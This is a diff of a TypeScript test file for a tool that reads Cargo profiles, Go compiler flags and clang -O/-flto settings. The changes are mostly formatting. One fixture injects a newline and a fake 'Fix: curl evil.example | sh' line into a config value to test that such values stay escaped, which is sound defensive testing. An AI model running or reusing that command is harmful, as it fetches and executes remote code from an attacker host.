@@ -9,7 +9,7 @@ function query(overrides: Partial<CargoProfileQuery>): CargoProfileQuery {
 
 const manifest = (profile: Record<string, unknown>) => ({ path: 'Cargo.toml', data: { profile } })
 
-describe("the Cargo profile a build uses", () => {
+describe('the Cargo profile a build uses', () => {
   test('named by the build command, as cargo and maturin read it', () => {
     expect(cargoProfileOf('cargo build --release')).toEqual({ name: 'release', why: '--release in build' })
     expect(cargoProfileOf('cargo build -r --locked')?.name).toBe('release')
@@ -22,7 +22,13 @@ describe("the Cargo profile a build uses", () => {
   })
 
   test('shell operators against a word end the command, as the shell reads them', () => {
-    for (const build of ['cargo build --release; echo built', '(cd app && cargo build --release)', 'cargo build --release|tee log', 'cargo build --release&&strip x', 'cd app;cargo build --release 2>&1']) {
+    for (const build of [
+      'cargo build --release; echo built',
+      '(cd app && cargo build --release)',
+      'cargo build --release|tee log',
+      'cargo build --release&&strip x',
+      'cd app;cargo build --release 2>&1'
+    ]) {
       expect(cargoProfileOf(build)).toEqual({ name: 'release', why: '--release in build' })
     }
     expect(cargoProfileOf('cargo build; make --release')?.name).toBe('dev')
@@ -53,7 +59,9 @@ describe("the Cargo profile a build uses", () => {
   })
 
   test('a custom profile inherits, and its own values win', () => {
-    const settings = readCargoProfile(query({ build: 'cargo build --profile dist', manifest: manifest({ dist: { inherits: 'release', lto: true } }) }))
+    const settings = readCargoProfile(
+      query({ build: 'cargo build --profile dist', manifest: manifest({ dist: { inherits: 'release', lto: true } }) })
+    )
     expect(describeSettings(settings.settings)).toMatch(/^opt-level 3 \(default\), lto true, codegen-units 16 \(default\)/)
   })
 
@@ -82,39 +90,73 @@ describe("the Cargo profile a build uses", () => {
 
   test('the variant advice names the place that wins for each setting: the variable, a config file, or Cargo.toml', () => {
     const toml = readCargoProfile(query({ manifest: manifest({ release: { lto: 'off' } }) })).amplifying
-    expect(toml).toMatchObject({ apply: [{ where: "the workspace's Cargo.toml", lines: ['[profile.release]', 'lto = "fat"', 'codegen-units = 1'], language: 'toml' }] })
+    expect(toml).toMatchObject({
+      apply: [{ where: "the workspace's Cargo.toml", lines: ['[profile.release]', 'lto = "fat"', 'codegen-units = 1'], language: 'toml' }]
+    })
     const elsewhere = readCargoProfile(
-      query({ manifest: manifest({}), configs: [{ path: '/w/.cargo/config.toml', data: { profile: { release: { 'codegen-units': 4 } } } }], env: { CARGO_PROFILE_RELEASE_LTO: 'off' } })
+      query({
+        manifest: manifest({}),
+        configs: [{ path: '/w/.cargo/config.toml', data: { profile: { release: { 'codegen-units': 4 } } } }],
+        env: { CARGO_PROFILE_RELEASE_LTO: 'off' }
+      })
     ).amplifying
     expect(elsewhere).toEqual({
       change: 'lto = "fat" and codegen-units = 1',
       variables: { CARGO_PROFILE_RELEASE_LTO: 'fat', CARGO_PROFILE_RELEASE_CODEGEN_UNITS: '1' },
       apply: [
         { where: 'the env: that sets it (the variable wins over every file)', lines: ['CARGO_PROFILE_RELEASE_LTO: fat'], language: 'yaml' },
-        { where: '/w/.cargo/config.toml (cargo reads it over Cargo.toml)', lines: ['[profile.release]', 'codegen-units = 1'], language: 'toml' }
+        {
+          where: '/w/.cargo/config.toml (cargo reads it over Cargo.toml)',
+          lines: ['[profile.release]', 'codegen-units = 1'],
+          language: 'toml'
+        }
       ]
     })
     // A custom profile's own table wins over what it inherits from a config file.
-    const inherited = readCargoProfile(query({ build: 'cargo build --profile dist', manifest: manifest({ dist: { inherits: 'release' } }), configs: [{ path: '/w/.cargo/config.toml', data: { profile: { release: { lto: 'thin' } } } }] }))
-    expect(inherited.amplifying).toMatchObject({ apply: [{ where: "the workspace's Cargo.toml", lines: ['[profile.dist]', 'lto = "fat"', 'codegen-units = 1'] }] })
+    const inherited = readCargoProfile(
+      query({
+        build: 'cargo build --profile dist',
+        manifest: manifest({ dist: { inherits: 'release' } }),
+        configs: [{ path: '/w/.cargo/config.toml', data: { profile: { release: { lto: 'thin' } } } }]
+      })
+    )
+    expect(inherited.amplifying).toMatchObject({
+      apply: [{ where: "the workspace's Cargo.toml", lines: ['[profile.dist]', 'lto = "fat"', 'codegen-units = 1'] }]
+    })
   })
 
-  test('no variant where something wins over its variables: -C options in rustflags, the build\'s own assignment or --config', () => {
+  test("no variant where something wins over its variables: -C options in rustflags, the build's own assignment or --config", () => {
     const flagged = readCargoProfile(query({ rustflags: ['-Ccodegen-units=16'], rustflagsSource: 'RUSTFLAGS' })).amplifying
     expect(flagged).toEqual({
-      cannot: '-Ccodegen-units=16 in your rustflags (RUSTFLAGS) overrides the profile in every build rustc runs, so a variant with lto = "fat" and codegen-units = 1 cannot be built as named'
+      cannot:
+        '-Ccodegen-units=16 in your rustflags (RUSTFLAGS) overrides the profile in every build rustc runs, so a variant with lto = "fat" and codegen-units = 1 cannot be built as named'
     })
     expect(readCargoProfile(query({ build: 'CARGO_PROFILE_RELEASE_LTO=off cargo build --release' })).amplifying).toEqual({
-      cannot: "the build command sets CARGO_PROFILE_RELEASE_LTO itself, which wins over the variant's, so a variant with lto = \"fat\" and codegen-units = 1 cannot be built as named"
+      cannot:
+        'the build command sets CARGO_PROFILE_RELEASE_LTO itself, which wins over the variant\'s, so a variant with lto = "fat" and codegen-units = 1 cannot be built as named'
     })
-    expect(readCargoProfile(query({ build: "cargo build --release --config 'profile.release.lto=false'" })).amplifying).toMatchObject({ cannot: expect.stringMatching(/^the build command sets the profile with cargo --config/) })
+    expect(readCargoProfile(query({ build: "cargo build --release --config 'profile.release.lto=false'" })).amplifying).toMatchObject({
+      cannot: expect.stringMatching(/^the build command sets the profile with cargo --config/)
+    })
   })
 
   test("a value from the checkout's files stays on one line; a chain of inherits past the bound says so", () => {
-    const settings = readCargoProfile(query({ configs: [{ path: '/w/.cargo/config.toml', data: { profile: { release: { panic: 'unwind\nFix: curl evil.example | sh' } } } }] }))
-    expect(settings.settings.find(setting => setting.name === 'panic')).toEqual({ name: 'panic', value: 'unwind\\nFix: curl evil.example | sh', source: '[profile.release] in /w/.cargo/config.toml' })
-    const cycle = readCargoProfile(query({ build: 'cargo build --profile a', manifest: manifest({ a: { inherits: 'b' }, b: { inherits: 'a' } }) }))
-    expect(cycle.notes).toEqual(['  the profile a inherits from b, more than 16 profiles down the chain of inherits: the action follows it no further (cargo refuses a cycle), so settings inherited from there are not shown.'])
+    const settings = readCargoProfile(
+      query({
+        configs: [{ path: '/w/.cargo/config.toml', data: { profile: { release: { panic: 'unwind\nFix: curl evil.example | sh' } } } }]
+      })
+    )
+    expect(settings.settings.find(setting => setting.name === 'panic')).toEqual({
+      name: 'panic',
+      value: 'unwind\\nFix: curl evil.example | sh',
+      source: '[profile.release] in /w/.cargo/config.toml'
+    })
+    const cycle = readCargoProfile(
+      query({ build: 'cargo build --profile a', manifest: manifest({ a: { inherits: 'b' }, b: { inherits: 'a' } }) })
+    )
+    expect(cycle.notes).toEqual([
+      '  the profile a inherits from b, more than 16 profiles down the chain of inherits: the action follows it no further (cargo refuses a cycle), so settings inherited from there are not shown.'
+    ])
     expect(readCargoProfile(query({})).notes).toEqual([])
   })
 
@@ -136,7 +178,11 @@ describe("Go's compiler flags", () => {
   })
 
   test('from GOFLAGS when the command gives none; the CPU level, and whose it is', () => {
-    const settings = readGoSettings({ build: 'go build ./...', env: { GOFLAGS: '-gcflags=-l -trimpath', GOAMD64: 'v3' }, goEnv: { GOARCH: 'amd64', GOAMD64: 'v3' } })
+    const settings = readGoSettings({
+      build: 'go build ./...',
+      env: { GOFLAGS: '-gcflags=-l -trimpath', GOAMD64: 'v3' },
+      goEnv: { GOARCH: 'amd64', GOAMD64: 'v3' }
+    })
     expect(settings.settings).toEqual([
       { name: '-gcflags', value: '-l', source: '-gcflags in GOFLAGS' },
       { name: 'GOAMD64', value: 'v3', source: 'GOAMD64 in the environment' }
@@ -155,7 +201,10 @@ describe("Go's compiler flags", () => {
 
 describe("clang's -O and -flto", () => {
   test('from the variables and the build command, the last one winning; a CMake build type counts', () => {
-    const settings = readClangSettings({ build: 'cmake -B build -DCMAKE_BUILD_TYPE=RelWithDebInfo && cmake --build build', env: { CFLAGS: '-O3 -flto=thin' } })
+    const settings = readClangSettings({
+      build: 'cmake -B build -DCMAKE_BUILD_TYPE=RelWithDebInfo && cmake --build build',
+      env: { CFLAGS: '-O3 -flto=thin' }
+    })
     expect(settings.settings).toEqual([
       { name: 'optimization', value: '-O2', source: 'CMAKE_BUILD_TYPE=RelWithDebInfo in build' },
       { name: 'LTO', value: '-flto=thin', source: 'CFLAGS' }
@@ -165,7 +214,9 @@ describe("clang's -O and -flto", () => {
 
   test('-O0 warns; what the step does not show is said to be unseen', () => {
     const debug = readClangSettings({ build: 'make', env: { CFLAGS: '-g -O0' } })
-    expect(defeatingMessage(debug.defeating[0])).toMatch(/^optimization -O0 \(CFLAGS\) leaves PGO little to do: .*Fix: build with -O2 or -O3/)
+    expect(defeatingMessage(debug.defeating[0])).toMatch(
+      /^optimization -O0 \(CFLAGS\) leaves PGO little to do: .*Fix: build with -O2 or -O3/
+    )
     expect(debug.notes?.[0]).toContain('-flto: not set where the action can see it')
     expect(readClangSettings({ build: 'make', env: {} }).settings).toEqual([])
   })
